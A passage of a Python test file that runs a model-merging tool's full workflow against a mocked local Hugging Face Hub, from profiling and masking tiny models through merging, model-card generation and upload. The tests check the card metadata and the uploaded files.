    assert ModelCard.load(readme).data.license == "mit"
    readme.write_text("---\n---\n# x\n")
    run("card", merged)
    assert ModelCard.load(readme).text.startswith("# x")


def test_from_the_hub_to_the_hub(sums_file, tmp_path):
    """Profile models from the Hub, upload the masks, merge with them from there, upload the merge with its card."""
    for name, seed in (("target", 0), ("ability", 1)):
        make_model(tiny_config("qwen2"), tmp_path / "hub" / "someone" / name, seed=seed)
    (tmp_path / "a.yml").write_text(
        "target: someone/target@v1\nability_model: someone/ability\n"
        f"abilities:\n  sums: {{dataset: {sums_file}, prompt: q, answer: a, samples: 4}}\n"
    )
    config = {"merge_method": "act", "base_model": "someone/target@v1", "dtype": "float32"}
    parameters = {"weight": 0.5, "mask": "hf://someone/masks@v1/sums.safetensors"}
    (tmp_path / "act.yml").write_text(
        yaml.safe_dump(config | {"models": [{"model": "someone/ability", "parameters": parameters}]})
    )
    scripts = Path(sys.executable).parent
    steps = [
        [*ACT, "profile", "a.yml", "profiles", "--quiet", "--dtype", "float32"],
        [*ACT, "mask", "profiles/sums.safetensors", "-o", "masks/sums.safetensors", "--density", "0.1"],
        [str(scripts / "hf"), "upload", "someone/masks", "masks"],
        [str(scripts / "mergekit-yaml"), "act.yml", "merged", "--quiet"],
        [*ACT, "card", "merged"],
        [str(scripts / "hf"), "upload", "someone/merged", "merged"],
    ]
    for step in steps:
        done, asked = run_there(tmp_path, *step, HF_TOKEN="hf_none")
        assert done.returncode == 0, (step, done.stdout[-1000:], done.stderr[-2000:], asked)
    uploaded = tmp_path / "hub" / "someone"
    assert sorted(path.name for path in (uploaded / "masks").iterdir()) == ["README.md", "sums.safetensors"]
    card = ModelCard.load(uploaded / "merged" / "README.md")
    assert set(card.data.base_model) == {"someone/target", "someone/ability"}
    assert card.data.base_model_relation == "merge"
    assert "- Target: [someone/target@v1](https://huggingface.co/someone/target/tree/v1)" in card.text
    assert (uploaded / "merged" / "masks" / "sums.safetensors").read_bytes() == (
        tmp_path / "masks" / "sums.safetensors"
    ).read_bytes()
    assert ModelCard.load(uploaded / "masks" / "README.md").data.base_model == ["someone/target", "someone/ability"]
    described = yaml.safe_load((uploaded / "merged" / "abilities.yml").read_text())
    assert described["target"].startswith("someone/target@")
